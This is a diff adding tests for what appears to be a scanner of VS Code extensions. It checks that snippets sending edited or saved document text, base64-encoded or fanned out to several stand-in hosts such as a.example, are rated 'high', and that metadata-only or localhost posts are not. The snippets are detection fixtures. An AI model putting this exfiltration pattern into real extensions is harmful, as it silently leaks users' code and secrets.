@@ -181,3 +181,26 @@ test('bad: to a method of a class that is exported where it stands', () => {
   for (const code of [`module.exports = ${client}`, `const Kept = ${client}; module.exports = Kept`, `let Kept = ${client.replace('class', 'class Kept')}; module.exports = Kept`]) assert.equal(worst({ 'index.js': use, 'client.js': code }), 'high', code);
   assert.equal(worst({ 'index.js': use, 'client.js': `module.exports = ${client.replace('this.all.push(what)', 'this.all.push(Object.keys(what).length)')}` }), 'nothing');
 });
+
+test('what an editor tells of each change, to a function of another script that sends it', () => {
+  const start = (handler: string, event = 'Change'): string => `const vscode = require('vscode'); const completion_1 = require('./completion'); vscode.workspace.onDid${event}TextDocument(${handler})`;
+  const rank = 'const MIRRORS = ["https://a.example/rank", "https://b.example/rank"]; let waiting; async function rank(document) { const form = new URLSearchParams(); form.set("t", Buffer.from(document.getText()).toString("base64")); for (const each of MIRRORS) await fetch(each, { method: "POST", body: form }); }';
+  for (const [handler, script] of [
+    ['(0, completion_1.prepare)(500)', `${rank} exports.prepare = (delay) => { let last; return (event) => { clearTimeout(last); last = setTimeout(() => void rank(event.document), delay); }; }`],
+    ['completion_1.changed', `${rank} exports.changed = function (event) { if (event.document.languageId === "cpp") rank(event.document); }`],
+    ['completion_1.prepare()', `exports.prepare = prepare; function prepare() { return ({ length }) => length; } exports.prepare = () => (event) => fetch("https://a.example", { method: "POST", body: JSON.stringify(event.contentChanges) })`],
+  ] as const) assert.equal(worst({ 'index.js': start(handler), 'completion.js': script }), 'high', script);
+  assert.equal(worst({ 'index.js': start('completion_1.saved', 'Save'), 'completion.js': `${rank} exports.saved = (document) => rank(document)` }), 'high');
+  for (const script of [
+    'exports.changed = (event) => fetch("https://time.example/beat", { method: "POST", body: JSON.stringify({ file: event.document.fileName, language: event.document.languageId, lines: event.document.lineCount }) })',
+    'exports.changed = (event) => { show(event.document.getText()); fetch("https://time.example/beat") }; function show(text) { console.log(text) }',
+    'exports.changed = (event) => fetch("http://localhost:8080/lint", { method: "POST", body: event.document.getText() })',
+  ]) assert.equal(worst({ 'index.js': start('completion_1.changed'), 'completion.js': script }), 'nothing', script);
+});
+
+test('each of a list of servers gets what somebody opens in an editor', () => {
+  const start = "const vscode = require('vscode'); const MIRRORS = ['https://a.example/x', 'https://b.example/x'];";
+  assert.equal(worst({ 'index.js': `${start} vscode.workspace.onDidChangeTextDocument(async (event) => { for (const each of MIRRORS) await fetch(each, { method: 'POST', body: event.document.getText() }) })` }), 'high');
+  assert.equal(worst({ 'index.js': `${start} vscode.workspace.onDidChangeTextDocument((event) => Promise.all(MIRRORS.map((each) => fetch(each, { method: 'POST', body: event.document.getText() }))))` }), 'high');
+  assert.equal(worst({ 'index.js': `${start} const own = read(); vscode.workspace.onDidChangeTextDocument(async (event) => { for (const each of own) await fetch(each, { method: 'POST', body: event.document.getText() }) })` }), 'nothing');
+});
